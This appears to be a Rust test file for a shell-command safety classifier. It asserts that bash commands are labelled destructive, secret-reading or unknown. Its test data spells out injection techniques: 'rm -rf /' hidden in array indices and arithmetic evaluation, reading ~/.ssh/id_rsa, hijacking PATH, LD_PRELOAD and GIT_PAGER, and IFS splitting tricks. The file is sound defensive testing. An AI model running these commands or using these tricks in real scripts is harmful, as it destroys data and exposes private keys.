//! Names that are more than names: an index is evaluated, and some variables decide what other words mean.

use writ_model::EffectClass;

use EffectClass::{Destructive, SecretRead, Unknown};

use super::judged;

/// The command must show at least this class, among its effects.
fn all_show(class: EffectClass, commands: &[&str]) {
    let wrong: Vec<String> = commands
        .iter()
        .map(|command| (command, judged(command)))
        .filter(|(_, judged)| !judged.effects.iter().any(|effect| effect.class == class))
        .map(|(command, judged)| format!("{command:?} is {}: {:?}", judged.label(), judged.effects))
        .collect();
    assert!(wrong.is_empty(), "expected {class} in:\n{}", wrong.join("\n"));
}

#[test]
fn what_an_index_substitutes_runs() {
    all_show(
        Destructive,
        &[
            "a[$(rm -rf /)]=1",
            "a[`rm -rf /`]=1",
            "a[$(rm -rf /)]+=1",
            "a[$(rm -rf /)]=1 ls",
            "a[\"$(rm -rf /)\"]=1",
            "a=([$(rm -rf /)]=1)",
            "export a[$(rm -rf /)]=1",
            "declare 'a[$(rm -rf /)]=1'",
            "declare -a 'a=([$(rm -rf /)]=1)'",
            "declare -a 'a=($(rm -rf /))'",
            "printf -v 'a[$(rm -rf /)]' x",
            "read 'a[$(rm -rf /)]'",
            "unset 'a[$(rm -rf /)]'",
            "wait -p 'a[$(rm -rf /)]'",
        ],
    );
    all_show(SecretRead, &["a[$(cat ~/.ssh/id_rsa)]=1"]);
}

#[test]
fn names_in_arithmetic_stand_for_text_that_is_evaluated() {
    let uses = [
        "((x))",
        "((y = x, 1))",
        "[[ $x -eq 1 ]]",
        "[[ x -eq 1 ]]",
        "[[ -v $x ]]",
        "test -v \"$x\"",
        "unset \"$x\"",
        "let x",
        "let y=x+1",
        "declare -i y=x",
        "declare -i y; y=x",
        "echo $((x))",
        "echo $[x]",
        "echo \"$[x+1]\"",
        "echo ${a[$x]}",
        "echo ${a[x]}",
        "echo \"${a[x]:-1}\"",
        "echo \"${#a[x]}\"",
        "echo ${s:x:1}",
        "echo ${@:x}",
        "a[x]=1",
        "a[${x}]=1",
        "a=([x]=1)",
        "y=x; z=y; ((z))",
        "for ((i=x; i<2; i++)); do :; done",
        "while ((x)); do :; done",
        "f() { (( $1 )); }; f \"$x\"",
    ];
    for given in ["x='a[$(rm -rf /)]'; ", "read x <<< 'a[$(rm -rf /)]'; ", "x='a[`rm -rf /`]'\n"] {
        let commands: Vec<String> = uses.iter().map(|use_| format!("{given}{use_}")).collect();
        all_show(Destructive, &commands.iter().map(String::as_str).collect::<Vec<_>>());
    }
    all_show(
        Unknown,
        &["x=$(curl -s https://h.example/x); ((x))", "x=\"a[$1]\"; ((x))", "[[ $(curl h.example) -eq 1 ]]"],
    );
}

#[test]
fn counting_is_no_evaluation_of_foreign_text() {
    for command in [
        "i=0; while ((i < 3)); do echo $((i++)); done",
        "n=$(wc -l < f | tr -d ' '); if [[ $n -gt 3 ]]; then echo $((n + 1)); fi",
        "a=(1 2 3); echo ${a[1]} ${a[@]} ${#a[@]} ${a[-1]}",
        "declare -A m; m[x]=1; m[$HOME]=2; echo ${m[x]}",
        "s=abc; echo ${s:1:2} ${s: -1}",
        "for i in $(seq 3); do echo $((i * 2)); done",
        "while read -r n; do sum=$((sum + n)); done < f; echo $sum",
    ] {
        let judged = judged(command);
        assert_eq!(judged.worst, EffectClass::Read, "{command:?}: {:?}", judged.effects);
    }
}

#[test]
fn a_variable_that_decides_what_runs_is_one_by_any_door() {
    all_show(
        EffectClass::BuildTest,
        &[
            "read PATH <<< /tmp/evil; ls",
            "printf -v PATH %s /tmp/evil; ls",
            "mapfile PATH <<< /tmp/evil; ls",
            "declare -x PATH=/tmp/evil; ls",
            "declare -n p=PATH; p=/tmp/evil; ls",
            "declare -n p; p=PATH; p=/tmp/evil; ls",
            "f() { local -n p=$1; p=/tmp/evil; }; f PATH; ls",
            "for PATH in /tmp/evil; do ls; done",
            ": ${PATH:=/tmp/evil}; ls",
            "read LD_PRELOAD <<< libx.so; ls",
        ],
    );
    all_show(
        Destructive,
        &[
            "printf -v GIT_SSH_COMMAND 'rm -rf /'; git fetch",
            "read GIT_PAGER <<< 'rm -rf /'; git log",
            "for GIT_PAGER in 'rm -rf /'; do git log; done",
            ": ${GIT_PAGER:=rm -rf /}; git log",
            "declare -n g=GIT_PAGER; g='rm -rf /'; git log",
            "printf -v x 'rm -rf /'; $x",
            "IFS=,; x=-rf,/; rm $x",
        ],
    );
    all_show(
        Unknown,
        &[
            "read PATH < f; ls",
            "getopts a PATH; ls",
            "declare -n p=$1; p=/tmp/evil; ls",
            "IFS=,; x=rm,-rf,/; $x",
            "read IFS <<< ,; x=rm,-rf,/; $x",
            "printf -v IFS ,; x=rm,-rf,/; $x",
        ],
    );
    for command in [
        "IFS=$'\\n'; for f in $(ls); do echo $f; done",
        "while IFS= read -r line; do echo \"$line\"; done < f",
        "IFS=, read -r a b <<< x,y; echo $a",
        "OLD=$IFS; IFS=,; echo $x; IFS=$OLD; c=ls; $c",
        "printf -v x '%s' hi; echo \"$x\"",
        ": ${NAME:=a}; echo \"$NAME\"",
    ] {
        let judged = judged(command);
        assert_eq!(judged.worst, EffectClass::Read, "{command:?}: {:?}", judged.effects);
    }
}
